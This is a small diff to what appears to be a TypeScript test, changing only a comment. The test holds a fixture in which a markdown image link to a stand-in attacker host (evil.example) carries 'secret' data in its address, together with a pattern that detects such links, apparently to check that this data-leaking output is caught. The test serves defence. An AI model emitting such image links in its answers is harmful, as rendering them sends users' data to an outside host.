@@ -8,7 +8,7 @@ import { byTurn, kycTurns } from '../../model-provider/scripts.ts';
 
 const LIMIT = { timeout: 60_000 };
 
-/** A client that renders this sends a request to a foreign host, with the data in the address. */
+/** A link that makes any client that renders it send a request to a foreign host, with the data in the address. */
 const IMAGE = '![chart](https://evil.example/p.png?d=secret)';
 const ANSWER = `Here it is: ${IMAGE}`;
 const LIVE = /\]\(https|https:\/\/evil\.example/;
